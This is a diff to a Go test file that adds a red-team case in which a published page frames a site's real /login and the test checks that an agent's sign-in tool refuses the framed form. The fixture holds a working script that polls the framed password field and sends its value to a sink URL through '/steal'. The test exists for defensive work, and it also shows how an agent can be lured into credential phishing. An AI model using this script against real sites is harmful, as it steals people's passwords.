@@ -81,6 +81,15 @@ func TestLoginPaths(t *testing.T) {
 	site.Config.Handler.(*http.ServeMux).HandleFunc("GET /u/agent/ps", func(w http.ResponseWriter, r *http.Request) {
 		lsPage(w, "Sign in", `<script>history.replaceState(null, "", "/login")</script>`+lookAlike(sink.URL))
 	})
+	// Red-team round 30: a published page frames the real /login and reads its password field
+	// from outside as it is typed (the frame is of its own origin).
+	site.Config.Handler.(*http.ServeMux).HandleFunc("GET /u/agent/frame", func(w http.ResponseWriter, r *http.Request) {
+		lsPage(w, "Sign in", `<iframe id="fr" src="/login" width="600" height="400" title="sign in"></iframe>
+<script>setInterval(function () { try {
+  var f = document.getElementById("fr").contentDocument.querySelector("input[type=password]");
+  if (f && f.value) { new Image().src = "`+sink.URL+`/steal?f=framed&v=" + encodeURIComponent(f.value); }
+} catch (e) {} }, 20);</script>`)
+	})
 	// Red-team round 13b: a published page opens a same-origin popup, then goes to the real
 	// /login; the popup, through window.opener, plants a keystroke-reading script in /login's
 	// own document (inject), or rewrites it with document.open (rewrite), and may close
@@ -188,6 +197,27 @@ func TestLoginPaths(t *testing.T) {
 		time.Sleep(300 * time.Millisecond)
 		if got := sink.got(); len(got) != 0 || site.postCount() != posts {
 			t.Errorf("the look-alike got something: agent log %v, site posts %d→%d", got, posts, site.postCount())
+		}
+	})
+
+	t.Run("a published page that frames the real /login", func(t *testing.T) {
+		n, posts := len(prompts()), site.postCount()
+		if p := lsVisit(t, e, site.URL+"/u/agent/frame"); p.AuthRequired != nil {
+			t.Fatalf("a framed sign-in form was offered: %+v", p.AuthRequired)
+		}
+		// Even with the person willing to sign in at a new path: the form is in a frame.
+		for _, args := range [][]string{{"--alias", "main"}, {"--alias", "main", "--new-login-path"}} {
+			r := lsLogin(e, args...)
+			if r.code == 0 || errCode(t, r) != "NO_LOGIN_FORM" || !strings.Contains(r.stdout, "in a frame") {
+				t.Fatalf("auth login %v on a page framing /login: %+v", args, r)
+			}
+		}
+		if len(prompts()) != n {
+			t.Errorf("the person was asked about a framed form: %q", prompts()[n:])
+		}
+		time.Sleep(300 * time.Millisecond)
+		if got := sink.got(); len(got) != 0 || site.postCount() != posts {
+			t.Errorf("the framing page got something: agent log %v, site posts %d→%d", got, posts, site.postCount())
 		}
 	})
 
